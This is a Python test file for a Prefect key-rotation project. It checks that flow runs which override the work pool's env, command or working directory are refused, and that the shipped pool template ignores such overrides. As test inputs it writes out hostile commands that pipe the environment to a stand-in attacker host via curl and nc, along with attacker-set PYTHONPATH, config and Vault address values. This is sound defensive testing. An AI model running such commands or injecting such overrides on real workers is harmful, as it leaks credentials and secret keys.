"""A run that overrides the work pool's job template is refused (README "Trust boundary").

Whoever can call the Prefect API can create a flow run with job variables (another ``env``,
``command`` or ``working_dir``) that a process worker applies on top of the pool's template, and
the worker's environment holds the store credentials and the organization key. The flows refuse
such a run before reading the configuration or any secret.

The slow tests create real deployments on a real Prefect server and execute their flow runs the
way a process worker does (``prefect flow-run execute <id>`` in the worker's checkout).
"""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest

from devstack.prefect_server import PrefectServer
from flows.trust import overridden_job_variables

REPO = Path(__file__).resolve().parents[1]
POOL = "trust-boundary-test"


def test_only_harmless_job_variables_are_allowed() -> None:
    assert overridden_job_variables({}, None) == []
    assert overridden_job_variables({"labels": {"a": "b"}, "stream_output": False, "name": "x"}) == []
    assert overridden_job_variables({"env": {"PYTHONPATH": "/tmp/evil"}}) == ["env"]
    assert overridden_job_variables({"env": {}}, {"command": "sh -c 'env | curl -d @- evil'"}) == ["command"]
    assert overridden_job_variables({"working_dir": "/tmp/evil", "image": "x"}) == ["image", "working_dir"]


def _run_deployment(
    server: PrefectServer, entrypoint: str, flow_name: str, parameters: dict[str, Any], **job: Any
) -> Any:
    """Create a deployment and a flow run of it with ``job`` variables, execute it as a process
    worker would, and return the flow run as the server has it afterwards."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.exceptions import ObjectAlreadyExists

    with get_client(sync_client=True) as client:
        with contextlib.suppress(ObjectAlreadyExists):
            client.create_work_pool(WorkPoolCreate(name=POOL, type="process"))
        flow_id = client.create_flow_from_name(flow_name)
        deployment_id = client.create_deployment(
            flow_id=flow_id,
            name=f"trust-{uuid.uuid4().hex[:8]}",
            entrypoint=entrypoint,
            work_pool_name=POOL,
            path=str(REPO),
        )
        run = client.create_flow_run_from_deployment(deployment_id, parameters=parameters, job_variables=job or None)
    env = server.client_env({k: v for k, v in os.environ.items() if not k.startswith("LANGFUSE_ROTATE_")})
    prefect = shutil.which("prefect", path=str(Path(sys.executable).parent)) or "prefect"
    proc = subprocess.run(
        [prefect, "flow-run", "execute", str(run.id)], env=env, cwd=REPO, capture_output=True, text=True, timeout=300
    )
    with get_client(sync_client=True) as client:
        final = client.read_flow_run(run.id)
    assert final.state is not None and final.state.is_final(), proc.stdout[-2000:] + proc.stderr[-2000:]
    return final


@pytest.mark.slow
@pytest.mark.parametrize(
    ("entrypoint", "flow_name", "parameters"),
    [
        ("flows/rotate.py:rotate", "langfuse-key-rotation", {"project": "chatbot-prod"}),
        ("flows/emergency.py:emergency", "langfuse-key-emergency", {"project": "chatbot-prod"}),
        ("flows/reconcile.py:reconcile", "langfuse-key-reconcile", {}),
        ("flows/rotate.py:rotate_all", "langfuse-key-rotation-all", {}),
    ],
    ids=["rotate", "emergency", "reconcile", "quarterly"],
)
def test_a_run_that_overrides_the_workers_environment_is_refused_before_reading_the_config(
    prefect_server: PrefectServer, tmp_path: Path, entrypoint: str, flow_name: str, parameters: dict[str, Any]
) -> None:
    missing = str(tmp_path / "no-such-config.yaml")
    run = _run_deployment(
        prefect_server,
        entrypoint,
        flow_name,
        {**parameters, "config_path": missing},
        env={"LANGFUSE_ROTATE_CONFIG": "/tmp/attacker.yaml", "PYTHONPATH": "/tmp/attacker"},
    )
    assert run.state.is_failed()
    assert "refused: this run overrides the work pool's job template (env)" in (run.state.message or "")


@pytest.mark.slow
def test_a_run_that_overrides_the_command_or_working_dir_is_refused(
    prefect_server: PrefectServer, tmp_path: Path
) -> None:
    # The command below is the default one, so the flow still runs and can refuse; a command that
    # skips the flow entirely can only be stopped by the pool's base job template (README).
    run = _run_deployment(
        prefect_server,
        "flows/rotate.py:rotate",
        "langfuse-key-rotation",
        {"project": "chatbot-prod", "config_path": str(tmp_path / "none.yaml")},
        command="prefect flow-run execute",
        working_dir=str(tmp_path),
    )
    assert run.state.is_failed()
    assert "(command, working_dir)" in (run.state.message or "")


@pytest.mark.slow
def test_a_run_without_overrides_goes_on_to_read_its_config(prefect_server: PrefectServer, tmp_path: Path) -> None:
    missing = tmp_path / "no-such-config.yaml"
    run = _run_deployment(
        prefect_server,
        "flows/rotate.py:rotate",
        "langfuse-key-rotation",
        {"project": "chatbot-prod", "config_path": str(missing)},
        labels={"team": "platform"},
    )
    assert run.state.is_failed()
    assert "refused" not in (run.state.message or "")
    assert "cannot read configuration" in (run.state.message or "")


TEMPLATE = REPO / "deployments" / "process-work-pool-template.json"
HOSTILE = {
    "command": "sh -c 'env | nc attacker 9'",
    "env": {"LANGFUSE_ROTATE_CONFIG": "/tmp/attacker.yaml", "PYTHONPATH": "/tmp/attacker"},
    "env.VAULT_ADDR": "http://attacker:8200",
    "working_dir": "/tmp/attacker",
}


def _resolved(template: dict[str, Any]) -> Any:
    """The job configuration a process worker builds from ``template`` and the hostile job variables
    (the worker resolves block and variable references through the server)."""
    import asyncio

    from prefect.client.orchestration import get_client
    from prefect.workers.process import ProcessJobConfiguration

    async def resolve() -> Any:
        async with get_client() as client:
            return await ProcessJobConfiguration.from_template_and_values(template, HOSTILE, client=client)

    return asyncio.run(resolve())


@pytest.mark.slow
def test_the_shipped_work_pool_template_ignores_command_env_and_working_dir_overrides(
    prefect_server: PrefectServer,
) -> None:
    import json

    config = _resolved(json.loads(TEMPLATE.read_text()))
    assert config.command is None  # the worker's own python -m prefect.engine
    assert config.env == {}
    assert config.working_dir is None


@pytest.mark.slow
def test_prefects_default_process_template_applies_them(prefect_server: PrefectServer) -> None:
    from prefect.workers.process import ProcessWorker

    config = _resolved(ProcessWorker.get_default_base_job_template())
    assert config.command == HOSTILE["command"]
    assert config.env["LANGFUSE_ROTATE_CONFIG"] == "/tmp/attacker.yaml"
    assert config.env["VAULT_ADDR"] == "http://attacker:8200"
